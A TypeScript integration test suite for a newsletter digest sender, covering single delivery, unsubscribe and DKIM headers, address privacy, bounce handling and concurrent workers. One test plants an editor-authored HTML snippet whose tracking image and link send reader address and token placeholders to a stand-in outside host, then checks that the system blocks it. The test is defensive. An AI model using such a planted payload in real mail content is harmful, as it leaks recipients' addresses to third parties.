import { generateKeyPairSync } from 'node:crypto'
import { writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { readerPlaceholders } from '@/src/services/digest/message'
import { startSending } from '@/src/services/digest/send'
import { recordOfToken } from '@/src/services/platform/recordLinks'
import {
  createReaders,
  duplicatesIn,
  prepareEdition,
  resetSink,
  startDigestRig,
  waitForStatus,
  workerEnv,
  type DigestRig,
  type Readers,
} from '../helpers/digest'
import type { SinkOptions } from '../helpers/smtpSink'
import { startWorkerProcess } from '../helpers/worker'

/**
 * One edition to 50 readers in every state, through the real worker process, Redis and an
 * SMTP server on loopback: each active reader gets exactly one digest, nobody else any.
 */

let rig: DigestRig
let readers: Readers
/** What the SMTP server answers each RCPT TO; set per test. */
let refuse: SinkOptions['refuse']

beforeAll(async () => {
  rig = await startDigestRig({
    sink: { refuse: (address, previous) => refuse?.(address, previous) },
    prepare: async ({ payload }) => {
      readers = await createReaders(payload, { active: 30, pending: 5, unsubscribed: 5, bounced: 5, complained: 5 })
    },
    // Batches of 25: thirty readers make two, and the two-worker test's 630 make many.
    workerEnv: (local) => {
      // DKIM as a site would configure it: the key in a PEM file.
      const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 })
      const keyFile = path.join(local.dir, 'dkim.pem')
      writeFileSync(keyFile, privateKey.export({ type: 'pkcs8', format: 'pem' }))
      return {
        DIGEST_BATCH_SIZE: '25',
        DKIM_DOMAIN: 'mindful.test',
        DKIM_SELECTOR: 'mm2026',
        DKIM_PRIVATE_KEY: keyFile,
      }
    },
  })
}, 180_000)

afterAll(() => rig?.close())

describe('sending an edition', () => {
  it('gives each active reader exactly one digest and nobody else any', { timeout: 120_000 }, async () => {
    const edition = await prepareEdition(rig.local.payload)
    await startSending(rig.local.payload, edition.id, rig.queues.jobs)
    const sent = await waitForStatus(rig.local.payload, edition.id, 'sent')

    const counts = rig.sink.countsByRecipient()
    expect([...counts.keys()].sort()).toEqual([...readers.active].sort())
    expect([...counts.values()].every((count) => count === 1)).toBe(true)
    expect(sent.stats).toMatchObject({ recipients: 30, sent: 30, failed: 0, skipped: 0 })
    expect(sent.snapshot?.html).toContain('Mindful Moments #1')
  })

  it('addresses every message to its reader alone, with one-click unsubscribe and list headers', async () => {
    const { docs } = await rig.local.payload.find({
      collection: 'subscribers',
      pagination: false,
      depth: 0,
      overrideAccess: true,
    })
    const readerIds = new Map(docs.map((doc) => [String(doc.id), doc.email]))
    const messageIds = new Set<string>()
    for (const message of rig.sink.messages) {
      const [reader] = message.envelopeTo
      expect(message.envelopeTo).toHaveLength(1)
      const headers = message.parsed.headers
      // The header block, folded lines joined.
      const head = message.raw.slice(0, message.raw.indexOf('\r\n\r\n')).replace(/\r\n[ \t]+/g, ' ')
      expect(message.parsed.to).toMatchObject({ value: [{ address: reader }] })
      expect(headers.get('cc')).toBeUndefined()
      expect(headers.get('bcc')).toBeUndefined()
      expect(head).toMatch(
        /^List-Unsubscribe: <https:\/\/mindful\.test\/newsletter\/unsubscribe\?token=[\w.-]+&newsletter=mindful-moments>, <mailto:moments@mindful\.test\?subject=unsubscribe%20[\w.-]+>/m,
      )
      expect(head).toMatch(/^List-Unsubscribe-Post: List-Unsubscribe=One-Click\r?$/m)
      expect(head).toMatch(/^Precedence: bulk\r?$/m)
      expect(head).toMatch(/^List-ID: Mindful Moments <mindful-moments\.mindful\.test>\r?$/m)
      // Signed after personalization: the signature covers this reader's own headers.
      expect(head).toMatch(
        /^DKIM-Signature: v=1; a=rsa-sha256; c=relaxed\/relaxed; d=mindful\.test; q=dns\/txt; s=mm2026; .*h=[^;]*\bTo\b[^;]*; .*b=/im,
      )
      expect(head).toMatch(/^DKIM-Signature:.*h=[^;]*List-Unsubscribe\b/im)
      expect(message.parsed.messageId).toMatch(/^<mm1\.[\w-]{22}@mindful\.test>$/)
      messageIds.add(message.parsed.messageId!)
      // The reader's own link, leaving this newsletter, the same in the header, the HTML and the text part.
      const token = /unsubscribe\?token=([\w.-]+)&/.exec(head)![1]
      expect(readerIds.get(recordOfToken('unsubscribe', token).id)).toBe(reader)
      const link = `https://mindful.test/newsletter/unsubscribe?token=${token}&newsletter=mindful-moments`
      expect(message.parsed.html).toContain(`${link.replace('&', '&amp;')}"`)
      expect(message.parsed.text).toContain(link)
      expect(message.parsed.subject).toBe('Mindful Moments #1: How to Regain a Partner’s Lost Trust')
    }
    expect(messageIds.size).toBe(rig.sink.messages.length)
  })

  it('puts no other reader’s address in any message', () => {
    const everyone = Object.values(readers).flat()
    for (const message of rig.sink.messages) {
      const [reader] = message.envelopeTo
      for (const other of everyone) if (other !== reader) expect(message.raw).not.toContain(other)
    }
  })

  it('keeps no address in any Redis key, value or job', async () => {
    const prefix = process.env.REDIS_PREFIX!
    const keys = await rig.queues.redis.keys(`${prefix}:*`)
    expect(keys.length).toBeGreaterThan(0)
    const everyone = Object.values(readers).flat()
    for (const key of keys) {
      expect(key).not.toMatch(/@/)
      const type = await rig.queues.redis.type(key)
      const dump =
        type === 'string'
          ? await rig.queues.redis.get(key)
          : type === 'hash'
            ? JSON.stringify(await rig.queues.redis.hgetall(key))
            : type === 'list'
              ? JSON.stringify(await rig.queues.redis.lrange(key, 0, -1))
              : type === 'set'
                ? JSON.stringify(await rig.queues.redis.smembers(key))
                : type === 'zset'
                  ? JSON.stringify(await rig.queues.redis.zrange(key, '0', '-1'))
                  : type === 'stream'
                    ? JSON.stringify(await rig.queues.redis.xrange(key, '-', '+'))
                    : ''
      for (const address of everyone) expect(dump ?? '', key).not.toContain(address)
      expect(dump ?? '', key).not.toContain('@readers.test')
    }
  })

  it('records the outcome of every reader in the batches, without any address', async () => {
    const { docs } = await rig.local.payload.find({
      collection: 'deliveries',
      pagination: false,
      depth: 0,
      overrideAccess: true,
    })
    expect(docs.every((batch) => batch.status === 'done')).toBe(true)
    const outcomes = docs.flatMap((batch) => Object.values(batch.outcomes as Record<string, { status: string }>))
    expect(outcomes.filter((o) => o.status === 'sent')).toHaveLength(30)
    expect(JSON.stringify(docs)).not.toContain('@readers.test')
  })
})

describe('an editor who plants reader placeholders', () => {
  it(
    'cannot write the frozen HTML, stats, period or error, and gets no reader’s address out of a digest',
    { timeout: 120_000 },
    async () => {
      resetSink(rig.sink)
      const editor = await rig.local.payload.create({
        collection: 'users',
        data: {
          email: 'planter@mindful.test',
          password: 'editor-password-1',
          role: 'editor',
          name: 'Pat Planter',
        } as never,
      })
      const {
        docs: [article],
      } = await rig.local.payload.find({ collection: 'articles', limit: 1, depth: 0 })
      // The fixed placeholders of snapshots frozen before they became random per edition.
      const known = readerPlaceholders(null)
      const planted = `<html><body><img src="https://elsewhere.test/p.gif?e=${known.address}"><a href="https://elsewhere.test/?t=${known.token}">Hi ${known.name}</a></body></html>`
      const asEditor = { user: editor, overrideAccess: false, depth: 0 } as const

      // Text an editor writes that looks like a placeholder is refused with a reason.
      await expect(
        rig.local.payload.create({
          collection: 'editions',
          data: {
            subject: 'Hello',
            intro: `Write to us: https://elsewhere.test/?e=${known.address}`,
            articles: [article.id],
          } as never,
          ...asEditor,
        }),
      ).rejects.toThrow(/mmreader/)

      const edition = await rig.local.payload.create({
        collection: 'editions',
        data: {
          subject: 'Mindful Moments: a planted edition',
          articles: [article.id],
          status: 'draft',
          periodKey: 'planted',
          sendError: 'planted',
          snapshot: {
            subject: 'Planted',
            html: planted,
            text: known.address,
            renderedAt: new Date().toISOString(),
            placeholderKey: '',
            stories: [{ article: article.id, category: null }],
          },
          stats: { recipients: 0, sent: 1000 },
        } as never,
        ...asEditor,
      })
      await rig.local.payload.update({
        collection: 'editions',
        id: edition.id,
        data: { snapshot: { html: planted }, stats: { recipients: 0 } } as never,
        ...asEditor,
      })
      const stored = await rig.local.payload.findByID({
        collection: 'editions',
        id: edition.id,
        depth: 0,
        overrideAccess: true,
      })
      expect(stored.snapshot?.html ?? null).toBeNull()
      expect(stored.snapshot?.placeholderKey ?? null).toBeNull()
      expect(stored.snapshot?.stories ?? null).toBeNull()
      expect(stored.periodKey ?? null).toBeNull()
      expect(stored.sendError ?? null).toBeNull()
      expect(stored.stats?.recipients ?? null).toBeNull()
      expect(stored.stats?.sent ?? null).toBeNull()

      await startSending(rig.local.payload, edition.id, rig.queues.jobs)
      const sent = await waitForStatus(rig.local.payload, edition.id, 'sent')
      expect(sent.snapshot?.html).not.toContain('elsewhere.test')
      // Random per edition: not the fixed strings anyone could have known.
      expect(sent.snapshot?.html).not.toContain(known.token)
      expect(sent.snapshot?.placeholderKey).toMatch(/^[A-Z]{16}$/)
      expect([...rig.sink.countsByRecipient().keys()].sort()).toEqual([...readers.active].sort())
      for (const message of rig.sink.messages) {
        const [reader] = message.envelopeTo
        expect(message.raw).not.toContain('elsewhere.test')
        expect(message.parsed.html).not.toContain(reader)
        expect(message.parsed.text).not.toContain(reader)
        expect(message.parsed.html).not.toMatch(/mmreader/i)
      }
    },
  )
})

describe('when the mail server refuses', () => {
  it(
    'retries a 451 and delivers; a 550 fails that delivery, counts a bounce, and nobody else is affected',
    { timeout: 120_000 },
    async () => {
      const [later, unknown, almostBounced] = [readers.active[3], readers.active[7], readers.active[11]]
      const byEmail = async (email: string) =>
        (
          await rig.local.payload.find({
            collection: 'subscribers',
            where: { email: { equals: email } },
            depth: 0,
            overrideAccess: true,
          })
        ).docs[0]
      // One more refusal and this reader is past the limit of 3.
      await rig.local.payload.update({
        collection: 'subscribers',
        id: (await byEmail(almostBounced)).id,
        data: { bounceCount: 2 },
        overrideAccess: true,
      })
      resetSink(rig.sink)
      refuse = (address, previous) => {
        if (address === later && previous === 0) return { code: 451, message: '4.3.0 Try again later' }
        if (address === unknown || address === almostBounced) return { code: 550, message: '5.1.1 No such mailbox' }
        return undefined
      }
      const edition = await prepareEdition(rig.local.payload)
      await startSending(rig.local.payload, edition.id, rig.queues.jobs)
      const sent = await waitForStatus(rig.local.payload, edition.id, 'sent')
      refuse = undefined

      const counts = rig.sink.countsByRecipient()
      expect(rig.sink.attempts.get(later)).toBe(2)
      expect(counts.get(later)).toBe(1)
      expect(counts.has(unknown)).toBe(false)
      expect(rig.sink.attempts.get(unknown)).toBe(1)
      expect(counts.size).toBe(readers.active.length - 2)
      expect(duplicatesIn(counts).extra).toBe(0)
      expect(sent.stats).toMatchObject({ recipients: 30, sent: 28, failed: 2, skipped: 0 })

      expect(await byEmail(unknown)).toMatchObject({ status: 'active', bounceCount: 1 })
      expect(await byEmail(almostBounced)).toMatchObject({ status: 'bounced', bounceCount: 3 })
      expect(await byEmail(later)).toMatchObject({ status: 'active', bounceCount: 0 })
      const { docs } = await rig.local.payload.find({
        collection: 'deliveries',
        where: { and: [{ edition: { equals: edition.id } }, { batch: { equals: 0 } }] },
        depth: 0,
        overrideAccess: true,
      })
      const outcomes = Object.values(
        docs[0].outcomes as Record<string, { status: string; attempts: number; error?: string; bounce?: boolean }>,
      )
      expect(outcomes.filter((o) => o.bounce)).toEqual([
        expect.objectContaining({ status: 'failed', error: expect.stringContaining('550') }),
        expect.objectContaining({ status: 'failed', error: expect.stringContaining('550') }),
      ])
      expect(outcomes.find((o) => o.attempts === 2)).toMatchObject({ status: 'sent' })
      expect(JSON.stringify(outcomes)).not.toContain('@')
    },
  )

  it('sends nothing more to a reader past the bounce limit', { timeout: 120_000 }, async () => {
    resetSink(rig.sink)
    const edition = await prepareEdition(rig.local.payload)
    await startSending(rig.local.payload, edition.id, rig.queues.jobs)
    const sent = await waitForStatus(rig.local.payload, edition.id, 'sent')
    const bounced = readers.active[11]
    expect(rig.sink.attempts.has(bounced)).toBe(false)
    expect(sent.stats).toMatchObject({ recipients: 29, sent: 29 })
  })
})

describe('two workers at once', () => {
  it('share the edition without sending anyone two', { timeout: 180_000 }, async () => {
    const more: string[] = []
    for (let i = 0; i < 600; i++) {
      const email = `many-${String(i).padStart(4, '0')}@readers.test`
      await rig.local.payload.create({
        collection: 'subscribers',
        data: { email, status: 'active' },
        overrideAccess: true,
        depth: 0,
      })
      more.push(email)
    }
    const second = startWorkerProcess(workerEnv(rig.local, rig.sink, { DIGEST_BATCH_SIZE: '25' }))
    await second.ready()
    try {
      resetSink(rig.sink)
      const edition = await prepareEdition(rig.local.payload)
      await startSending(rig.local.payload, edition.id, rig.queues.jobs)
      const sent = await waitForStatus(rig.local.payload, edition.id, 'sent')
      const counts = rig.sink.countsByRecipient()
      const everyone = [...readers.active.filter((email) => email !== readers.active[11]), ...more]
      expect([...counts.keys()].sort()).toEqual(everyone.sort())
      expect(duplicatesIn(counts).extra).toBe(0)
      expect(sent.stats?.sent).toBe(everyone.length)
      // Both workers took part.
      const batchesBy = (output: string) => (output.match(/delivery batch sent/g) ?? []).length
      expect(batchesBy(rig.worker.output())).toBeGreaterThan(0)
      expect(batchesBy(second.output())).toBeGreaterThan(0)
    } finally {
      await second.stop()
    }
  })
})
